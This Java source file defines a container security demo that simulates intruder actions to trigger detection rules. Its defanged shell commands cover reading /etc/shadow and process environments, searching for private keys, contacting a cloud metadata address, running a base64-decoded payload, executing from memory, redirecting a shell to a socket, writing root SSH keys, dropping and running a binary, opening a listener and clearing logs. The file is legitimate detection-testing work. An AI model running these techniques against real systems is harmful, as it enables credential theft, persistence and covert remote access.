package dev.tiercel.cli.demo;

import java.util.List;
import java.util.Optional;

/// The actions of `demo`, in the order in which an intruder might come to them: the one place to add another.
///
/// Their image has bash, perl (without its modules) and the coreutils of Debian, and no more. What connects does so to
/// the loopback device, to which its socket is bound (option 25, SO_BINDTODEVICE): nothing leaves the container.
final class DemoActions {
    /// What is done again and again until the first alert comes; the rule is that of no action.
    static final String KNOCK = ": > /tmp/.tiercel-demo; rm /tmp/.tiercel-demo";

    private static final List<DemoAction> ALL = List.of(
            new DemoAction(
                    "shell",
                    true,
                    "A shell is started at a terminal in the container.",
                    "Who got in looks around by hand. A container that does its work needs no terminal.",
                    "Terminal shell in a container",
                    "bash -c true"),
            new DemoAction(
                    "environment",
                    false,
                    "The environment of the container's first process is read.",
                    "Passwords and keys are passed to containers in variables.",
                    "Environment of a process read in container",
                    "cat /proc/1/environ > /dev/null"),
            new DemoAction(
                    "passwords",
                    false,
                    "The file with the password hashes is read.",
                    "Weak passwords can be guessed from their hashes, far away and at leisure.",
                    "Credential file read by untrusted program",
                    "cat /etc/shadow > /dev/null"),
            new DemoAction(
                    "keys",
                    false,
                    "Files are searched for private keys.",
                    "A key opens the next machine.",
                    "Search for private keys or passwords",
                    "grep -r 'BEGIN OPENSSH PRIVATE KEY' /home /root"),
            new DemoAction(
                    "metadata",
                    false,
                    "A connection to the metadata service of a cloud is begun, on the loopback device.",
                    "There a cloud gives its machine credentials, and whoever runs in it can ask.",
                    "Cloud metadata service contacted from a container",
                    connect("perl", "169,254,169,254", 80)),
            new DemoAction(
                    "payload",
                    false,
                    "A script that says hello is decoded from base64 and run.",
                    "Encoded, a script passes filters, and logs do not show what it does.",
                    "Payload decoded in a container",
                    "echo ZWNobyBoZWxsbwo= | base64 -d | bash"),
            new DemoAction(
                    "memory",
                    false,
                    "A copy of the program true is run from memory.",
                    "A program that never was in a file is found by no scan of files.",
                    "Program run from memory",
                    """
                    perl -e '$name = "payload"; $fd = syscall(qx(uname -m) =~ /x86_64/ ? 319 : 279, $name, 0);
                    open(my $in, "<", "/bin/true"); open(my $out, ">&=", $fd); local $/; syswrite($out, <$in>);
                    exec {"/proc/self/fd/$fd"} "true"'"""),
            new DemoAction(
                    "reverse-shell",
                    false,
                    "A shell's standard input becomes a connection, of the container to itself.",
                    "So a shell takes its commands from far away, and firewalls let it out.",
                    "Standard streams redirected to a connection",
                    """
                    perl -e 'socket(my $l, 2, 1, 0); bind($l, pack("S n C4 x8", 2, 0, 127,0,0,1)); listen($l, 1);
                    socket(my $s, 2, 1, 0); connect($s, getsockname($l)); open(STDIN, "<&", $s); exec "bash", "-c", "true"'"""),
            new DemoAction(
                    "login",
                    false,
                    "A key that does not exist is allowed to log in as root.",
                    "A way back in, for when the hole is closed.",
                    "Authorized keys written",
                    "mkdir -p /root/.ssh; echo '# nobody' > /root/.ssh/authorized_keys; rm -r /root/.ssh"),
            new DemoAction(
                    "dropped",
                    false,
                    "A copy of perl is put into /tmp, made executable and run, and connects out, on the loopback device.",
                    "The classic: download, chmod, run, report. Each step is common, all four by one file are not.",
                    "File dropped and run",
                    "cp \"$(command -v perl)\" /tmp/update; chmod 755 /tmp/update; "
                            + connect("/tmp/update", "203,0,113,7", 4444)
                            + "; rm /tmp/update"),
            new DemoAction(
                    "listener",
                    false,
                    "A package manager is started, then something listens on port 31337.",
                    "Tools are installed where the image has none; then a door is opened.",
                    "Listener after a package manager",
                    """
                    apt-get --version > /dev/null; \
                    perl -e 'socket(my $s, 2, 1, 0); bind($s, pack("S n x12", 2, 31337)); listen($s, 1)'"""),
            new DemoAction(
                    "log",
                    false,
                    "A log is emptied.",
                    "Whoever leaves sweeps away the traces.",
                    "Log cleared",
                    "echo demo > /var/log/auth.log; : > /var/log/auth.log; rm /var/log/auth.log"));

    private DemoActions() {}

    static List<DemoAction> all() {
        return ALL;
    }

    static Optional<DemoAction> named(String name) {
        return ALL.stream().filter(action -> action.name().equals(name)).findFirst();
    }

    /// A TCP connection that does not wait for an answer; `address` with commas.
    private static String connect(String perl, String address, int port) {
        return "%s -e 'socket(my $s, 2, 2049, 0); setsockopt($s, 1, 25, \"lo\\0\"); connect($s, pack(\"S n C4 x8\", 2, %d, %s))'"
                .formatted(perl, port, address);
    }
}
